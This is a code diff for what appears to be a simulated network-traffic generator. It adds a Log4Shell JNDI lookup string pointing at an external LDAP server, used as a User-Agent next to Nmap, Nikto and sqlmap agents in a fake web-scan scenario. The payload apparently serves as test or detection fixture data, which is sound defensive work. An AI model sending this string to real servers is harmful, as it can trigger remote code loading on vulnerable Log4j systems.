@@ -12,6 +12,7 @@ from netsentinel.kernel.types import Micros
 
 NMAP = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
 NIKTO = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)"
+LOG4SHELL = "${jndi:ldap://203.0.113.66:1389/a}"
 SQLMAP = "sqlmap/1.8.4#stable (https://sqlmap.org)"
 GUESSED_LOGINS = 84
 
@@ -106,9 +107,10 @@ def _probe_ports(rng: random.Random, start: Micros) -> Iterator[StoryLine]:
 
 
 def web_scan(rng: random.Random, start: Micros) -> Iterator[StoryLine]:
-    """Scanners try known paths, traversals and SQL injection on the web server; almost nothing answers."""
+    """Scanners try known paths, traversals, Log4Shell and SQL injection on the web server; almost nothing answers."""
     plans = [(NMAP, url) for url in _NMAP_URLS]
     plans += [(NIKTO, url) for url in _NIKTO_URLS]
+    plans += [(LOG4SHELL, "/")]
     plans += [(SQLMAP, url) for url in _SQLMAP_URLS]
     at = start
     for agent, url in plans:
